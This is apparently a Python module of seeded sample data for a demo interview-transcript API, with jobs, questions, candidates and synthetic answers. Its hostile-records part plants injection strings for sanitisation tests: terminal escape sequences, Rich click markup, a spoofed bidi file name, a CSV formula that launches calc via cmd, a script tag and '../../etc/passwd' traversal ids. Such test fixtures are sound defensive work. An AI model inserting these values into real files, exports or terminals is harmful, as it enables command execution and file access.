"""Deterministic sample data for the demo ROUND0 Interviews API.

Everything here is pure: the same inputs always give the same JSON. Randomness only ever comes
from ``random.Random`` seeded with a fixed label, so ids and transcripts are stable across runs.

What is in it (see the exported constants at the bottom):

- ``SPEC_INTERVIEW_ID``: the spec's own example interview and /questions payload, verbatim.
- ~40 more interviews over six jobs in every documented status, plus one ``"under_review"``.
- ``LIVE_IDS``: invited -> in_progress (answers appear one by one) -> completed as
  ``elapsed`` grows; ``LIVE_EXPIRING_ID``: invited -> expired. All done at ``LIVE_END_SECONDS``.
- ``HOSTILE_IDS``: Rich markup, ANSI/OSC/C1 escapes, bidi overrides, CSV formulas and a
  path-traversal question id (``TRAVERSAL_QUESTION_ID``).
- ``LONG_ID`` (one transcript >= 100,000 chars), ``NON_LATIN_IDS``, ``MISSING_FIELDS_ID``
  (keys absent), ``NULL_FIELDS_ID`` (keys null), ``UNKNOWN_STATUS_ID``.
- ``make_bulk(n, seed)``: ids of N synthetic completed interviews, rendered lazily.

Timestamps: most interviews have fixed dates. Invited and in-progress ones, and the live ones,
are relative to ``epoch`` (the server's start time; ``DEFAULT_EPOCH`` when not given) so they
look current. A live event at dataset time ``t`` is stamped ``epoch + t / speed``.

``audio_url`` is not part of the stored data: it is signed at serve time, so ``snapshot`` takes an
``audio_url(interview_id, question_id) -> str`` callable and omits the key when none is given.
"""

from __future__ import annotations

import hashlib
import random
import re
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import lru_cache
from typing import Any

DEMO_KEY = "rz_demo_2f6c1e0b9a7d4c3e8b5a"
INACTIVE_KEY = "rz_demo_inactive"  # authenticates, but the "subscription" is not active -> 403
DEFAULT_EPOCH = datetime(2025, 6, 2, 9, 0, 0, tzinfo=UTC).timestamp()

AudioUrlFn = Callable[[str, str], str]
Json = dict[str, Any]

_DAY = 86400.0
_HOUR = 3600.0


def iso(ts: float) -> str:
    """Unix seconds -> the API's ISO 8601 form (``2024-01-16T14:30:00Z``)."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(round(ts)))


def _ts(text: str) -> float:
    return datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC).timestamp()


def uuidish(label: str, *, nonhex: bool = False) -> str:
    """A UUID-shaped id derived from ``label``; with ``nonhex`` some letters go past 'f'.

    The vendor's own ids look like ``770g0622-g41d-...``, so clients must not validate UUIDs.
    """
    chars = list(hashlib.sha256(label.encode()).hexdigest()[:32])
    if nonhex:
        for pos in (3, 9, 13, 17, 25):
            chars[pos] = chr(ord("g") + int(chars[pos], 16))  # g..v
    s = "".join(chars)
    return f"{s[:8]}-{s[8:12]}-{s[12:16]}-{s[16:20]}-{s[20:]}"


# --------------------------------------------------------------------------------------------
# Jobs and question templates
# --------------------------------------------------------------------------------------------

_ABSENT = object()  # marks "key not present at all", as opposed to JSON null


@dataclass(frozen=True)
class Job:
    key: str
    id: str
    title: str
    department: Any  # str, None (-> JSON null) or _ABSENT (-> key omitted)
    questions: tuple[Json, ...]

    def full(self) -> Json:
        out: Json = {"id": self.id, "title": self.title}
        if self.department is not _ABSENT:
            out["department"] = self.department
        return out


def _q(qid: str, text: str, qtype: str, limit: int, order: int) -> Json:
    return {"id": qid, "question_text": text, "question_type": qtype,
            "time_limit_seconds": limit, "order": order}


def _template(key: str, rows: Sequence[tuple[str, str, int, int]]) -> tuple[Json, ...]:
    return tuple(
        _q(uuidish(f"q:{key}:{i}", nonhex=i % 3 == 1), text, qtype, limit, order)
        for i, (text, qtype, limit, order) in enumerate(rows)
    )


_SPEC_Q0 = _q("880h1733-h52e-74g7-d049-779988773333",
              "Describe your experience with React hooks and when you would use them.",
              "technical", 180, 0)
_SPEC_Q1 = _q("990i2844-i63f-85h8-e150-880099884444",
              "Tell me about a challenging bug you fixed recently.", "experience", 180, 1)
_SPEC_Q_CUSTOM = {**_q("custom-aa0j3955-j74g-96i9-f261-991100995555",
                       "Why do you want to work at our company?", "behavioral", 120, 10),
                  "is_custom": True}

JOBS: dict[str, Job] = {
    "frontend": Job("frontend", "550e8400-e29b-41d4-a716-446655440000",
                    "Senior Frontend Developer", "Engineering", (_SPEC_Q0, _SPEC_Q1) + _template(
        "frontend", [
            ("How do you approach accessibility in a shared component library?",
             "technical", 180, 2),
            ("Walk me through how you would debug a page that suddenly loads slowly.",
             "situational", 240, 3),
            ("Tell me about a time you disagreed with a designer. How did you resolve it?",
             "behavioral", 150, 5),
            ("What draws you to frontend work rather than backend?", "role_specific", 120, 6),
        ])),
    "backend": Job("backend", uuidish("job:backend"), "Backend Engineer (Go)", "Engineering",
                   _template("backend", [
        ("Explain how you structure concurrency in Go services. When do you reach for channels "
         "versus mutexes?", "technical", 240, 0),
        ("Describe a production incident you led the response for.", "experience", 180, 1),
        ("How would you design an idempotent payment webhook consumer?", "technical", 300, 2),
        ("A teammate's PR introduces a goroutine leak right before a release. What do you do?",
         "situational", 180, 4),
        ("Tell me about a time you had to push back on a deadline.", "behavioral", 150, 5),
        ("How do you decide what to measure when you add observability to a service?",
         "role_specific", 180, 8),
        ("What is your experience with PostgreSQL query tuning?", "experience", 180, 9),
    ])),
    "data": Job("data", uuidish("job:data", nonhex=True), "Data Scientist", "Data & Analytics",
                _template("data", [
        ("Walk me through a model you shipped to production, from framing to monitoring.",
         "experience", 240, 0),
        ("How do you explain a confidence interval to a non-technical stakeholder?",
         "role_specific", 150, 1),
        ("How would you detect and handle data leakage in a churn model?", "technical", 240, 2),
        ("An A/B test shows a significant lift but the PM's intuition says it is wrong. "
         "What do you do?", "situational", 180, 3),
        ("Tell me about a time your analysis changed a decision.", "behavioral", 180, 6),
    ])),
    "design": Job("design", uuidish("job:design"), "Product Designer", "Design",
                  _template("design", [
        ("Walk me through a recent project from research to shipped design.",
         "experience", 240, 0),
        ("How do you decide when a design is ready to hand off?", "role_specific", 150, 1),
        ("Tell me about feedback that changed your mind.", "behavioral", 150, 2),
        ("An engineer says your design will take three sprints instead of one. "
         "How do you respond?", "situational", 180, 4),
    ])),
    "cs": Job("cs", uuidish("job:cs", nonhex=True), "Customer Success Manager",
              "Customer Success", _template("cs", [
        ("Tell me about an at-risk account you turned around.", "experience", 180, 0),
        ("How do you prioritise when three customers escalate at the same time?",
         "situational", 180, 1),
        ("What metrics do you use to judge account health?", "role_specific", 150, 2),
        ("Describe a time you had to deliver bad news to a customer.", "behavioral", 150, 3),
        ("How do you get customer feedback prioritised by product teams?", "behavioral", 150, 5),
        ("How would you run a first quarterly business review for a new enterprise customer?",
         "role_specific", 240, 6),
        ("How comfortable are you reading API docs and explaining integrations to customers?",
         "technical", 120, 7),
        ("Why customer success?", "behavioral", 90, 9),
    ])),
    # No department at all: the webhook docs say department is nullable, so clients meet this.
    "ops": Job("ops", uuidish("job:ops"), "Operations Associate", _ABSENT, _template("ops", [
        ("Describe your experience with inventory or logistics systems.", "experience", 180, 0),
        ("How do you handle a shift where two people call in sick?", "situational", 150, 1),
        ("What does a safe workplace mean to you?", "behavioral", 120, 2),
        ("Tell me about a process you improved.", "experience", 150, 4),
    ])),
}

_CUSTOM_BANK: tuple[tuple[str, str, int], ...] = (
    ("Why do you want to work at our company?", "behavioral", 120),
    ("Are you comfortable with occasional on-call rotations?", "role_specific", 90),
    ("Our team is fully remote across five time zones. How do you stay in sync?",
     "situational", 120),
    ("What would you want to learn in your first 90 days?", "behavioral", 120),
    ("Describe a side project you are proud of.", "experience", 150),
)

# --------------------------------------------------------------------------------------------
# Sentence banks: transcripts are composed from these with a seeded RNG
# --------------------------------------------------------------------------------------------

_OPENERS = (
    "Sure, that's a good question.", "Okay, so, let me think about that for a second.",
    "Yeah, absolutely.", "Um, I'd say a few things come to mind.",
    "Right, so the example I keep coming back to is from my last role.",
    "Honestly, this is something I think about a lot.",
)
_CLOSERS = (
    "So that's roughly how I'd approach it.", "I hope that answers the question.",
    "That experience really shaped how I work today.",
    "Happy to go deeper on any part of that.", "Yeah, I think that's it.",
)
_BANKS: dict[str, tuple[str, ...]] = {
    "frontend": (
        "I usually start by profiling in the browser devtools before touching any code.",
        "We moved our design system to TypeScript, which caught a whole class of prop bugs.",
        "Accessibility isn't a checklist at the end; we run axe in CI and test with a screen "
        "reader every sprint.",
        "I try to keep state as close as possible to where it's used.",
        "The bundle had grown to almost two megabytes, so we split routes and lazy-loaded the "
        "charts.",
        "I pair with designers early, sometimes sketching in Figma together.",
        "We added visual regression tests after a CSS change broke checkout on Safari.",
        "Server components changed how we think about data fetching.",
        "I wrote a custom hook for debounced search that three teams now use.",
        "Core Web Vitals became a team metric, not just something I cared about.",
        "When the designer and I disagreed, we built both versions and ran a quick usability "
        "test.",
        "I like frontend because the feedback loop with real users is so short.",
    ),
    "backend": (
        "I default to a mutex for shared state and use channels when ownership moves between "
        "goroutines.",
        "Every handler takes a context, and we propagate cancellation all the way to the "
        "database.",
        "The incident started with p99 latency climbing on the orders service.",
        "We found a goroutine leak with pprof: a ticker that was never stopped.",
        "For idempotency, we store the event id with a unique constraint and do the work in the "
        "same transaction.",
        "I wrote the postmortem and we added a runbook for the on-call rotation.",
        "EXPLAIN ANALYZE showed a sequential scan, so we added a partial index.",
        "I pushed back on the deadline by showing what we'd have to cut and the risk of each "
        "item.",
        "We emit RED metrics for every endpoint and alert on error budget burn.",
        "Retries need jitter, otherwise you just synchronise the thundering herd.",
        "I review PRs for error handling first, because that's where Go code tends to rot.",
        "We migrated from a monolith gradually, one bounded context at a time.",
    ),
    "data": (
        "The churn model looked great offline, with an AUC of 0.94, which was the first red flag.",
        "It turned out a feature was computed after the cancellation date, so it leaked the "
        "label.",
        "I explain a confidence interval as the range of answers we'd still believe after "
        "seeing the data.",
        "We monitored feature drift weekly and retrained when the population shifted.",
        "I always ask what decision the model is supposed to change before building anything.",
        "The A/B test had a sample ratio mismatch, so the lift wasn't trustworthy.",
        "We used a holdout group for six months to measure long-term effects.",
        "My analysis showed the discount was cannibalising full-price sales, so we stopped it.",
        "SQL is still where I spend most of my time, honestly.",
        "I write notebooks for exploration but anything recurring goes into a tested pipeline.",
        "Calibration mattered more than accuracy because sales used the scores as "
        "probabilities.",
        "I try to show uncertainty visually rather than with a table of p-values.",
    ),
    "design": (
        "We started with twelve customer interviews and a lot of sticky notes.",
        "The first prototype tested badly, which was the most useful thing that happened.",
        "I consider a design ready when the edge cases and empty states are drawn, not just "
        "the happy path.",
        "A support engineer pointed out that our flow ignored bulk actions entirely.",
        "We cut the scope to one sprint by shipping the table view first.",
        "I keep a decision log so engineers can see why something looks the way it does.",
        "Accessibility reviews happen in the design file, not after launch.",
        "The redesign cut time-to-first-report from eight minutes to under two.",
        "I used to defend pixels; now I defend the problem statement.",
        "We ran a five-second test on the landing page and the value proposition didn't land.",
        "Design tokens let us change the brand colour without touching any component code.",
        "I like to prototype in code when the interaction is the hard part.",
    ),
    "cs": (
        "The account had three open escalations and the champion had just left.",
        "I set up a weekly call with their new VP and we agreed on two success metrics.",
        "I prioritise escalations by customer impact first and contract value second.",
        "Health scores are only useful if they predict renewals, so we validated ours.",
        "Delivering bad news early is always cheaper than delivering it late.",
        "I bring product managers onto customer calls so they hear the pain directly.",
        "A good QBR is mostly about their goals, not our roadmap.",
        "I'm comfortable reading API docs and walking an admin through webhooks.",
        "We reduced churn in my segment from nine percent to four over a year.",
        "I keep a shared success plan with every strategic customer.",
        "Renewal conversations start ninety days out, not two weeks before.",
        "Customer success is where I get to combine problem solving and relationships.",
    ),
    "ops": (
        "I've used a warehouse management system for about four years.",
        "When two people call in sick, I re-plan the pick waves and ask for volunteers first.",
        "Safety means nobody is ever too busy to stop the line.",
        "I improved our receiving process by adding a barcode check at the dock.",
        "Cycle counts went from monthly to weekly for the fast-moving items.",
        "I keep the shift handover notes short and specific.",
    ),
    "ja": (
        "前職では三年間、フロントエンドの開発を担当していました。",
        "チームでコードレビューの基準を作り、品質が大きく向上しました。",
        "ユーザーの声を直接聞くことを大切にしています。",
        "パフォーマンスの問題は、まず計測してから対策を考えます。",
        "新しい技術を学ぶのが好きで、週末も個人開発をしています。",
        "難しいバグは、再現手順を丁寧に書き出すことで解決できました。",
    ),
    "ar": (
        "عملت على نماذج التنبؤ بفقدان العملاء لمدة ثلاث سنوات.",
        "أهم شيء بالنسبة لي هو فهم القرار الذي سيتخذه الفريق بناءً على النموذج.",
        "استخدمت Python و SQL بشكل يومي في عملي السابق.",
        "اكتشفنا تسرب البيانات عندما كانت النتائج أفضل من المتوقع.",
        "أشرح فترات الثقة باستخدام أمثلة من الحياة اليومية.",
        "التعاون مع فريق المنتج كان جزءاً أساسياً من نجاح المشروع.",
    ),
    "ru": (
        "Я пишу на Go уже пять лет, в основном высоконагруженные сервисы.",
        "Для общего состояния я обычно использую мьютекс, а каналы — для передачи владения.",
        "Во время инцидента мы сначала откатили релиз, а потом искали причину.",
        "Утечку горутин нашли с помощью pprof за пару часов.",
        "Идемпотентность мы обеспечивали через уникальный ключ события в базе.",
        "Я всегда пишу постмортем без поиска виноватых.",
    ),
    "emoji": (
        "Honestly I love this part of the job 😄 it never gets boring.",
        "We shipped it on a Friday 🙈 which I would not recommend.",
        "The team celebrated with tacos 🌮🌮🌮 when the numbers came in.",
        "I keep a little 🚀 emoji next to every launch in my notes.",
        "It was a 10/10 learning experience 💯 even if it hurt at the time.",
        "Coffee ☕ and a whiteboard are my main debugging tools.",
    ),
}


def _transcript(rng: random.Random, bank: str, size: str | None = None) -> str:
    """A spoken-style answer: opener, some bank sentences, maybe a closer; varied length."""
    sentences = _BANKS[bank]
    if size is None:
        size = rng.choices(("short", "medium", "long"), weights=(2, 5, 3))[0]
    n = {"short": rng.randint(1, 2), "medium": rng.randint(3, 6), "long": rng.randint(7, 14)}[size]
    latin = bank not in ("ja", "ar", "ru")
    parts: list[str] = []
    if latin and rng.random() < 0.6:
        parts.append(rng.choice(_OPENERS))
    parts.extend(rng.sample(sentences, min(n, len(sentences))))  # no repeats within an answer
    if latin and size != "short" and rng.random() < 0.5:
        parts.append(rng.choice(_CLOSERS))
    sep = "" if bank == "ja" else " "
    return sep.join(parts)


def _long_transcript(rng: random.Random, bank: str, min_chars: int) -> str:
    """A rambling answer of at least ``min_chars``, in paragraphs (a stress test for viewers)."""
    paragraphs: list[str] = []
    total = 0
    while total < min_chars:
        para = " ".join(rng.choice(_BANKS[bank] + _OPENERS) for _ in range(rng.randint(5, 11)))
        paragraphs.append(para)
        total += len(para) + 2
    return "\n\n".join(paragraphs)


# --------------------------------------------------------------------------------------------
# Records
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Answer:
    question_id: str
    transcript: str
    duration: int | None
    at: float  # answered_at: unix secs, epoch offset (relative) or dataset secs (live)


@dataclass(frozen=True)
class _Live:
    start: float = 0.0  # dataset seconds at which the candidate starts
    complete: float = 0.0
    expire: float | None = None  # set -> this interview only ever expires


@dataclass
class _Record:
    id: str
    status: str
    job: Json  # full job object as rendered once started
    candidate: Json
    questions: list[Json]
    total_questions: int
    estimated_duration: int
    answers: list[_Answer] = field(default_factory=list)
    created: float = 0.0
    started: float | None = None
    completed: float | None = None
    expires: float | None = None
    audio: str = "sign"  # "sign": signed url, "null": JSON null, "absent": no key
    relative: bool = False  # created/started/... are offsets (seconds) from the epoch
    live: _Live | None = None


def _status_at(rec: _Record, elapsed: float) -> str:
    lv = rec.live
    if lv is None:
        return rec.status
    if lv.expire is not None:
        return "expired" if elapsed >= lv.expire else "invited"
    if elapsed < lv.start:
        return "invited"
    return "in_progress" if elapsed < lv.complete else "completed"


def _render(rec: _Record, elapsed: float, epoch: float, speed: float,
            audio_url: AudioUrlFn | None) -> Json:
    status = _status_at(rec, elapsed)
    speed = speed if speed > 0 else 1.0

    def stamp(x: float) -> str:
        return iso(epoch + x if rec.relative else x)

    def live_stamp(x: float) -> str:
        return iso(epoch + x / speed)

    out: Json = {"id": rec.id, "status": status}
    lv = rec.live
    if status in ("invited", "expired"):
        # The spec's non-completed example: job without department, no started/responses.
        out["job"] = {"id": rec.job["id"], "title": rec.job["title"]}
        out["candidate"] = dict(rec.candidate)
        if lv is not None and lv.expire is not None:
            out["created_at"] = iso(epoch + lv.expire / speed - 7 * _DAY)
            out["expires_at"] = live_stamp(lv.expire)
        else:
            out["created_at"] = stamp(rec.created)
            if rec.expires is not None:
                out["expires_at"] = stamp(rec.expires)
        return out

    out["job"] = dict(rec.job)
    out["candidate"] = dict(rec.candidate)
    if lv is not None:
        out["started_at"] = live_stamp(lv.start)
        if status != "in_progress":
            out["completed_at"] = live_stamp(lv.complete)
        shown = [a for a in rec.answers if a.at <= elapsed]
        at = live_stamp
    else:
        if rec.started is not None:
            out["started_at"] = stamp(rec.started)
        if status != "in_progress" and rec.completed is not None:
            out["completed_at"] = stamp(rec.completed)
        shown = rec.answers
        at = stamp
    qmap = {q["id"]: q for q in rec.questions}
    responses: list[Json] = []
    for a in shown:
        q = qmap[a.question_id]
        r: Json = {"question_id": a.question_id, "question_text": q["question_text"],
                   "question_type": q["question_type"], "transcript": a.transcript}
        if rec.audio == "null":
            r["audio_url"] = None
        elif rec.audio == "sign" and audio_url is not None:
            r["audio_url"] = audio_url(rec.id, a.question_id)
        r["duration_seconds"] = a.duration
        r["answered_at"] = at(a.at)
        responses.append(r)
    out["responses"] = responses
    out["created_at"] = stamp(rec.created)
    return out


def _questions_payload(rec: _Record) -> Json:
    return {
        "interview_id": rec.id,
        "questions": [dict(q) for q in rec.questions],
        "total_questions": rec.total_questions,
        "estimated_duration_seconds": rec.estimated_duration,
    }


# --------------------------------------------------------------------------------------------
# Building the base dataset
# --------------------------------------------------------------------------------------------

SPEC_INTERVIEW_ID = "660f9511-f30c-52e5-b827-557766551111"

# The spec's examples, verbatim, for tests to compare against (audio_url is added at serve
# time, as the field list documents it even though the example omits it).
SPEC_INTERVIEW: Json = {
    "id": SPEC_INTERVIEW_ID,
    "status": "completed",
    "job": {"id": "550e8400-e29b-41d4-a716-446655440000",
            "title": "Senior Frontend Developer", "department": "Engineering"},
    "candidate": {"id": "770g0622-g41d-63f6-c938-668877662222", "name": "Jane Smith",
                  "email": "jane@example.com"},
    "started_at": "2024-01-16T14:30:00Z",
    "completed_at": "2024-01-16T14:52:00Z",
    "responses": [
        {
            "question_id": "880h1733-h52e-74g7-d049-779988773333",
            "question_text": (
                "Describe your experience with React hooks and when you would use them."
            ),
            "question_type": "technical",
            "transcript": (
                "I've been using React hooks extensively for the past three years. Hooks like "
                "useState and useEffect are fundamental to my development workflow. I "
                "particularly appreciate how they enable functional components to manage state "
                "and side effects without the complexity of class components. For instance, I "
                "recently used useReducer for complex state logic in a form validation system, "
                "and useMemo to optimize expensive calculations in a data visualization "
                "dashboard. The custom hooks I've created have helped our team maintain "
                "consistent patterns across the codebase."
            ),
            "duration_seconds": 145,
            "answered_at": "2024-01-16T14:33:25Z",
        },
        {
            "question_id": "990i2844-i63f-85h8-e150-880099884444",
            "question_text": "Tell me about a challenging bug you fixed recently.",
            "question_type": "experience",
            "transcript": "Last month, we had an intermittent race condition that only appeared "
                          "in production...",
            "duration_seconds": 167,
            "answered_at": "2024-01-16T14:38:12Z",
        },
    ],
    "created_at": "2024-01-15T10:30:00Z",
}
SPEC_QUESTIONS: Json = {
    "interview_id": SPEC_INTERVIEW_ID,
    "questions": [dict(_SPEC_Q0), dict(_SPEC_Q1), dict(_SPEC_Q_CUSTOM)],
    "total_questions": 11,
    "estimated_duration_seconds": 1260,
}

TRAVERSAL_QUESTION_ID = "custom-../../etc/passwd"
WINDOWS_TRAVERSAL_QUESTION_ID = "custom-..\\..\\Windows\\win.ini"

# Strings planted in the hostile interviews, so UI/export tests can assert they are neutralised.
HOSTILE_SAMPLES: tuple[str, ...] = (
    "[@click=app.quit]Click me[/]",
    "[bold red]x[/]",
    "[link=https://evil.example]",
    "\x1b[31m",
    "\x1b[2J",
    "\x1b]0;pwned\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b",
    "\u202e",
    '=HYPERLINK("http://x","y")',
    "+1",
    "@SUM(A1)",
)

# (label, job, status, name, email, bank) for the ordinary interviews.
_PEOPLE: tuple[tuple[str, str, str, str, str | None, str], ...] = (
    ("c01", "frontend", "completed", "Marcus Chen", "marcus.chen@example.com", "frontend"),
    ("c02", "frontend", "completed", "Priya Raghunathan", "priya.r@example.com", "frontend"),
    ("c03", "frontend", "completed", "山田 花子", "hanako.yamada@example.jp", "ja"),
    ("c04", "backend", "completed", "Tomás Herrera", "tomas.herrera@example.com", "backend"),
    ("c05", "backend", "completed", "Иван Петров", "ivan.petrov@example.ru", "ru"),
    ("c06", "backend", "completed", "Olusegun Adebayo", "olu.adebayo@example.com", "backend"),
    ("c07", "backend", "completed", "Sofia Lindqvist", "sofia.lindqvist@example.se", "backend"),
    ("c08", "data", "completed", "فاطمة الزهراء", "fatima.alzahra@example.ae", "ar"),
    ("c09", "data", "completed", "Wei Zhang", "wei.zhang@example.com", "data"),
    ("c10", "data", "completed", "Aleksandra Nowak", "a.nowak@example.pl", "data"),
    ("c11", "data", "completed", "Ana 🌸 Flores", "ana.flores@example.com", "emoji"),
    ("c12", "design", "completed", "Chloé Dubois", "chloe.dubois@example.fr", "design"),
    ("c13", "design", "completed", "Kwame Mensah", "kwame.mensah@example.com", "design"),
    ("c14", "design", "completed", "Nguyễn Thị Minh Khai", "minh.khai@example.vn", "design"),
    ("c15", "cs", "completed", "Rachel O'Connor", "rachel.oconnor@example.ie", "cs"),
    ("c16", "cs", "completed", "Liam Murphy", "liam.murphy@example.com", "cs"),
    ("c17", "cs", "completed", "김민준", "minjun.kim@example.kr", "cs"),
    ("c18", "cs", "completed", "Σοφία Παπαδοπούλου", "sofia.p@example.gr", "cs"),
    ("c19", "ops", "completed", "Jamal Williams", "jamal.w@example.com", "ops"),
    ("c20", "frontend", "completed",
     "María Fernanda Alejandra de los Ángeles Gutiérrez-Santander y Montenegro",
     "mf.gutierrez.santander.montenegro@example.mx", "frontend"),
    ("p01", "backend", "in_progress", "Hannah Becker", "hannah.becker@example.de", "backend"),
    ("p02", "data", "in_progress", "Arjun Mehta", "arjun.mehta@example.in", "data"),
    ("p03", "cs", "in_progress", "Emma Johansson", "emma.j@example.com", "cs"),
    ("p04", "design", "in_progress", "田中 由紀", "yuki.tanaka@example.jp", "ja"),
    ("i01", "frontend", "invited", "Noah Williams", "noah.w@example.com", "frontend"),
    ("i02", "backend", "invited", "Chidi Okafor", "chidi.okafor@example.ng", "backend"),
    ("i03", "data", "invited", "Lucía Fernández", "lucia.fernandez@example.es", "data"),
    ("i04", "cs", "invited", "Ahmed Hassan", "ahmed.hassan@example.eg", "cs"),
    ("i05", "ops", "invited", "Grace Kim", "grace.kim@example.com", "ops"),
    ("e01", "design", "expired", "Oliver Smith", "oliver.smith@example.co.uk", "design"),
    ("e02", "frontend", "expired", "Isabella Rossi", "isabella.rossi@example.it", "frontend"),
    ("e03", "cs", "expired", "Mateo García", "mateo.garcia@example.com", "cs"),
    ("e04", "backend", "expired", "Zara Ali", "zara.ali@example.com", "backend"),
)

_BASE_TIME = _ts("2025-05-26T16:00:00Z")  # newest fixed-date interview


def _questions_for(rng: random.Random, label: str, job: Job, n_custom: int) -> list[Json]:
    qs = [dict(q) for q in job.questions]
    used = {q["order"] for q in qs}
    for n in range(n_custom):
        text, qtype, limit = _CUSTOM_BANK[(sum(map(ord, label)) + n) % len(_CUSTOM_BANK)]
        # Custom questions go after the template, or into a gap in its order numbers.
        gaps = [o for o in range(max(used)) if o not in used]
        order = rng.choice(gaps) if gaps and rng.random() < 0.4 else max(used) + rng.randint(1, 4)
        used.add(order)
        qs.append({**_q("custom-" + uuidish(f"custom:{label}:{n}", nonhex=True), text, qtype,
                        limit, order), "is_custom": True})
    qs.sort(key=lambda q: q["order"])
    return qs


def _answers(rng: random.Random, questions: Sequence[Json], bank: str, start: float,
             count: int | None = None) -> tuple[list[_Answer], float]:
    """Answer the first ``count`` questions from ``start``; returns answers and the end time."""
    t = start
    out: list[_Answer] = []
    for q in questions[: len(questions) if count is None else count]:
        text = _transcript(rng, bank)
        # Speech runs at roughly 2.5 words/s; CJK has no spaces, so count characters instead.
        words = len(text) / 2.2 if bank == "ja" else len(text.split()) / 2.5
        duration = max(8, min(q["time_limit_seconds"], int(words) + rng.randint(3, 20)))
        t += rng.randint(15, 75) + duration
        out.append(_Answer(q["id"], text, duration, t))
    return out, t


def _candidate(label: str, name: str, email: str | None, *, nonhex: bool) -> Json:
    cand: Json = {"id": uuidish(f"cand:{label}", nonhex=nonhex), "name": name}
    if email is not None:
        cand["email"] = email
    return cand


def _ordinary(index: int, label: str, job_key: str, status: str, name: str, email: str | None,
              bank: str) -> _Record:
    rng = random.Random(f"rztui-demo:{label}")
    job = JOBS[job_key]
    n_custom = rng.choice((0, 0, 1, 2))
    qs = _questions_for(rng, label, job, n_custom)
    listed_time = sum(q["time_limit_seconds"] for q in qs)
    # Like the spec, total_questions is sometimes larger than the list it comes with.
    hidden = rng.randint(1, 6) if index % 5 == 2 else 0
    rec = _Record(
        id=uuidish(f"interview:{label}", nonhex=index % 3 == 0), status=status,
        job=job.full(), candidate=_candidate(label, name, email, nonhex=index % 4 == 1),
        questions=qs, total_questions=len(qs) + hidden,
        estimated_duration=listed_time + 120 * hidden,
    )
    if status == "completed":
        rec.created = _BASE_TIME - index * 1.7 * _DAY - rng.randint(0, 20000)
        rec.started = rec.created + rng.randint(2 * 3600, 4 * 86400)
        rec.answers, end = _answers(rng, qs, bank, rec.started)
        rec.completed = end + rng.randint(10, 90)
    elif status == "in_progress":
        rec.relative = True  # started a few minutes before "now" so it looks current
        rec.started = -rng.randint(5, 40) * 60.0
        rec.created = rec.started - rng.randint(1, 72) * _HOUR
        rec.answers, _ = _answers(rng, qs, bank, rec.started, count=rng.randint(1, len(qs) - 1))
    elif status == "invited":
        rec.relative = True
        rec.created = -rng.randint(1, 120) * _HOUR
        rec.expires = rec.created + 7 * _DAY
    else:  # expired: fixed dates, link ran out before the candidate started
        rec.created = _BASE_TIME - index * 2.3 * _DAY
        rec.expires = rec.created + 7 * _DAY
    return rec


def _spec_record() -> _Record:
    rec = _Record(
        id=SPEC_INTERVIEW_ID, status="completed", job=dict(SPEC_INTERVIEW["job"]),
        candidate=dict(SPEC_INTERVIEW["candidate"]), questions=SPEC_QUESTIONS["questions"],
        total_questions=11, estimated_duration=1260,
        created=_ts(SPEC_INTERVIEW["created_at"]), started=_ts(SPEC_INTERVIEW["started_at"]),
        completed=_ts(SPEC_INTERVIEW["completed_at"]),
    )
    rec.answers = [_Answer(r["question_id"], r["transcript"], r["duration_seconds"],
                           _ts(r["answered_at"])) for r in SPEC_INTERVIEW["responses"]]
    return rec


def _completed_special(label: str, job_key: str, name: str, email: str | None, bank: str,
                       created: str, *, custom: int = 0) -> _Record:
    rng = random.Random(f"rztui-demo:{label}")
    job = JOBS[job_key]
    qs = _questions_for(rng, label, job, custom)
    rec = _Record(id=uuidish(f"interview:{label}", nonhex=True), status="completed",
                  job=job.full(), candidate=_candidate(label, name, email, nonhex=False),
                  questions=qs, total_questions=len(qs),
                  estimated_duration=sum(q["time_limit_seconds"] for q in qs),
                  created=_ts(created))
    rec.started = rec.created + 5 * _HOUR
    rec.answers, end = _answers(rng, qs, bank, rec.started)
    rec.completed = end + 30
    return rec


def _with_transcripts(rec: _Record, texts: dict[int, str]) -> None:
    """Replace the transcripts of answers by index (keeps ids, timing)."""
    for i, text in texts.items():
        a = rec.answers[i]
        rec.answers[i] = _Answer(a.question_id, text, a.duration, a.at)


def _hostile_records() -> list[_Record]:
    markup = _completed_special(
        "hostile-markup", "design", "[@click=app.quit]Click me[/] [bold red]x[/]",
        "markup@example.com", "design", "2025-05-20T08:00:00Z", custom=1)
    _with_transcripts(markup, {
        0: "My portfolio is at [link=https://evil.example]this link[/link]. "
           "[@click=app.quit]Click me[/] to see it. [bold red]x[/] [/] [/bold] [red "
           "\\[not markup] $accent {braces} %s %(name)s <script>alert(1)</script>",
        1: "[@click=app.bell]ring[/] [@click=screen.dismiss]close[/] "
           "[blink]important[/blink] :smile: :warning:",
        2: "Plain answer, but the next one isn't.",
        3: "[link=https://evil.example]" * 3 + "unclosed",
    })
    # A custom question whose *text* is hostile too.
    for q in markup.questions:
        if q.get("is_custom"):
            q["question_text"] = "[@click=app.quit]Why us?[/] [bold red]x[/]"

    terminal = _completed_special(
        "hostile-terminal", "backend", "\x1b[31mEve\x1b[0m \x1b]0;pwned\x07Mallory\u202egnp.exe",
        "eve@example.com", "backend", "2025-05-21T08:00:00Z")
    _with_transcripts(terminal, {
        0: "Clearing your screen: \x1b[2J\x1b[H done. Red: \x1b[31mred\x1b[0m. "
           "Title: \x1b]0;pwned\x07. Clipboard: \x1b]52;c;ZXZpbA==\x07. "
           "C1 CSI: \x9b31m. Bidi: \u202etxt.exe\u202c. ",
        1: "Hyperlink \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 and DCS \x1bPq#0\x1b\\ "
           "backspace\x08\x08XX carriage\roverwrite bell\x07 nul\x00 zero\u200bwidth "
           "isolate\u2067x\u2069 tab\there",
        2: "Normal answer between two hostile ones.",
        3: "\x1b[?1049h\x1b[?25l alternate screen and hidden cursor \x1b[6n",
    })

    csv = _completed_special(
        "hostile-csv", "cs", "=cmd|' /C calc'!A0", "=1+1@example.com", "cs",
        "2025-05-22T08:00:00Z")
    # Question ids that are unsafe as file names: archive code must not use them raw.
    extra = [
        {**_q(TRAVERSAL_QUESTION_ID, "Where do you see yourself in five years?", "behavioral",
              120, 20), "is_custom": True},
        {**_q(WINDOWS_TRAVERSAL_QUESTION_ID, "Anything else to add?", "behavioral", 60, 21),
         "is_custom": True},
    ]
